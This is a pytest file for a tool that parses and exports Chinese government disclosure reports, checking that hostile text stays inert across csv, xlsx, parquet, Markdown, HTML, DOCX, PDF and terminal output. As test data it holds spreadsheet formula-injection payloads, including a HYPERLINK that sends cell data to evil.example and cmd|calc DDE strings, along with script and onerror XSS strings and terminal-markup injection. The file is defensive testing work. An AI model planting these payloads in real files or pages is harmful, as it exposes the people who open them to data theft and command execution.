"""Text from a document is data in every output: a title, agency or section written as a
spreadsheet formula, as HTML or as terminal markup comes out as the same inert text in csv, xlsx,
parquet, the templates, Markdown, HTML, DOCX, PDF and the terminal."""

from __future__ import annotations

import csv
import io
import json
import shutil
import zipfile
from pathlib import Path

import pandas as pd
import pytest
import yaml
from openpyxl import load_workbook
from typer.testing import CliRunner

from gongkai.cli import app
from gongkai.parse import parse
from gongkai.read import read_bytes
from gongkai.read.data import read_data
from gongkai.render.docx import render_docx
from gongkai.render.html import render_html
from gongkai.render.markdown import render_markdown
from gongkai.render.template import template_xlsx, template_yaml
from gongkai.synth import synth_report
from gongkai.text import FORMULA_START

runner = CliRunner()

# What a hostile document may hold where a report prints its agency and its sections.
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "+cmd|'/Ccalc'!A0", "@SUM(1+1)*cmd|'/Ccalc'!A0",
            "-2+3+cmd|'/Ccalc'!A0"]
HTML = ["<script>alert(1)</script>", '<img src=x onerror="alert(1)">']
MARKUP = "西峡[/]县[link=http://evil.example]点[/link][bold]"
# The same attacks as a title's agency the parser accepts (no digits, no breadcrumb separators such
# as / | : which mark a web page's navigation): what a hostile document gets into the corpus.
AGENCY_FORMULAS = ['=HYPERLINK("evil.example?"&A,"点击")', "+cmd!A西峡县", "@SUM(A+B)*cmd!A", "-cmd!A西峡县"]
AGENCY_MARKUP = "西峡[bold]县[link=evil.example]点[red]"


def hostile_report(agency: str):
    report = synth_report(5, year=2024)
    report.agency, report.title = agency, f"{agency}2024年政府信息公开工作年度报告"
    lines = [*FORMULAS, *HTML, MARKUP, "铃声\x07在此"]
    report.sections[0].text = "\n".join(lines)
    return report


def cli(*args: str):
    return runner.invoke(app, list(args), env={"GONGKAI_DB": None}, catch_exceptions=False)


def test_markdown_and_html_show_markup_as_text():
    report = hostile_report(HTML[0])
    markdown, page = render_markdown(report), render_html(report)
    for text in (markdown, page):
        assert "<script" not in text and "<img" not in text
        assert "&lt;script&gt;" in text and "&lt;img src=x onerror=" in text
    # Markdown: each line of the section its own paragraph, none read as a list or a link.
    body = markdown.split("## 一、", 1)[1].split("## 二、", 1)[0]
    assert "\n\n-2+3" in body and "\n\n西峡\\[/\\]县\\[link=" in body


def test_markdown_escapes_are_undone_when_read_back():
    """What the Markdown renderer escapes so it prints as text reads back as the report wrote it."""
    report = hostile_report(AGENCY_MARKUP)
    back = parse(read_bytes(render_markdown(report).encode("utf-8"), "report.md"))
    assert MARKUP in back.sections[0].text and "\\[" not in back.sections[0].text
    assert back.values() == report.values()


@pytest.mark.parametrize("agency", [*FORMULAS, MARKUP])
def test_templates_keep_formulas_as_text(agency):
    report = hostile_report(agency)
    workbook = load_workbook(io.BytesIO(template_xlsx(report)))
    formulas = [c.coordinate for ws in workbook.worksheets for row in ws.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []
    texts = {c.value for ws in workbook.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)}
    assert agency in texts and report.sections[0].text.replace("\x07", "") in texts
    assert read_data(template_xlsx(report), "t.xlsx").agency == agency  # and reads back as written
    assert yaml.safe_load(template_yaml(report))["agency"] == agency


def test_docx_and_its_text_hold_the_words_not_fields():
    report = hostile_report(FORMULAS[0])
    data = render_docx(report)
    xml = zipfile.ZipFile(io.BytesIO(data)).read("word/document.xml").decode("utf-8")
    assert "w:fldSimple" not in xml and "w:instrText" not in xml and "<script" not in xml
    text = "\n".join(getattr(item, "text", "") for item in read_bytes(data, "r.docx").items)
    assert FORMULAS[0] in text and "铃声在此" in text


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice (soffice) is not installed")
def test_pdf_holds_the_words_and_no_actions():
    from gongkai.render.pdf import render_pdf

    report = hostile_report(FORMULAS[0])
    data = render_pdf(report)
    assert b"/JavaScript" not in data and b"/Launch" not in data
    text = "".join(getattr(item, "text", "") for item in read_bytes(data, "r.pdf").items)
    assert "HYPERLINK" in text and "onerror" in text


@pytest.fixture(scope="module")
def hostile_corpus(tmp_path_factory) -> Path:
    root = tmp_path_factory.mktemp("hostile")
    folder = root / "reports"
    folder.mkdir()
    for i, agency in enumerate([*AGENCY_FORMULAS, AGENCY_MARKUP]):
        report = hostile_report(agency)
        if i == 0:  # a sum that fails: a finding to export
            report.cells["applications.new.total"].value += 1
        (folder / f"r{i}.html").write_text(render_html(report), encoding="utf-8")
    db = root / "h.db"
    result = cli("ingest", str(folder), "--db", str(db), "--workers", "1", "--no-progress")
    assert result.exit_code == 0, result.output
    return root


def _stored_agencies(root: Path) -> list[str]:
    lines = cli("list", "--db", str(root / "h.db"), "--json").stdout.splitlines()
    return [json.loads(line)["agency"] for line in lines]


def test_the_hostile_agencies_are_stored_as_written(hostile_corpus):
    assert sorted(_stored_agencies(hostile_corpus)) == sorted([*AGENCY_FORMULAS, AGENCY_MARKUP])


@pytest.mark.parametrize("headers", ["key", "zh"])
def test_csv_and_parquet_cells_never_start_a_formula(hostile_corpus, headers):
    db = str(hostile_corpus / "h.db")
    for kind in ("csv", "parquet"):
        out = hostile_corpus / f"{headers}.{kind}"
        result = cli("export", "--to", kind, "-o", str(out), "--headers", headers, "--db", db, "--force")
        assert result.exit_code == 0, result.output
        for path in (out, out.with_name(f"{out.stem}.findings{out.suffix}")):
            if kind == "csv":
                with path.open(encoding="utf-8-sig", newline="") as f:
                    values = [v for row in csv.reader(f) for v in row]
            else:
                frame = pd.read_parquet(path)
                values = [v for column in frame.columns for v in frame[column].tolist() if isinstance(v, str)]
            starts = [v for v in values if v.startswith(FORMULA_START)]
            assert starts == [], (path.name, starts)
        if kind == "csv":
            agencies = pd.read_csv(out, encoding="utf-8-sig", dtype=str).iloc[:, 1].tolist()
            assert "'" + AGENCY_FORMULAS[0] in agencies  # the text is all there, after the apostrophe


def test_xlsx_export_holds_no_formula_and_the_text_as_written(hostile_corpus):
    out = hostile_corpus / "e.xlsx"
    result = cli("export", "--to", "xlsx", "-o", str(out), "--headers", "zh", "--db", str(hostile_corpus / "h.db"))
    assert result.exit_code == 0, result.output
    workbook = load_workbook(out)
    formulas = [c.coordinate for ws in workbook.worksheets for row in ws.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []
    values = {c.value for ws in workbook.worksheets for row in ws.iter_rows() for c in row}
    assert set(AGENCY_FORMULAS) <= values
    for ws in workbook.worksheets:  # a frozen header row with filters
        assert ws.freeze_panes == "A2" and ws.auto_filter.ref.startswith("A1:")
    severities = {c.value for c in next(ws for ws in workbook.worksheets if ws.title == "核查结果")["E"][1:]}
    assert severities and severities <= {"错误", "警告", "提示"}


@pytest.mark.parametrize("command", [["list"], ["show", "r4.html"], ["stats", "--by", "region"], ["list", "--failed"]])
def test_terminal_prints_markup_as_written(hostile_corpus, command):
    result = cli(*command, "--db", str(hostile_corpus / "h.db"))
    assert result.exit_code == 0, result.output
    if command[0] in ("list", "show") and "--failed" not in command:
        assert "[bold]" in result.stdout and "[link=evil.example]" in result.stdout


def test_parse_table_prints_markup_as_written(tmp_path):
    path = tmp_path / "r.html"
    path.write_text(render_html(hostile_report(AGENCY_MARKUP)), encoding="utf-8")
    result = cli("parse", str(path), "--to", "table")
    assert result.exit_code == 0, result.output
    assert AGENCY_MARKUP in result.stdout


def test_a_text_document_keeps_its_whole_text():
    """Line numbers and format detection read the document's text: the reader keeps all of it."""
    text = render_markdown(hostile_report(AGENCY_MARKUP))
    for name in ("report.md", "report.txt"):
        assert read_bytes(text.encode("utf-8"), name).text == text
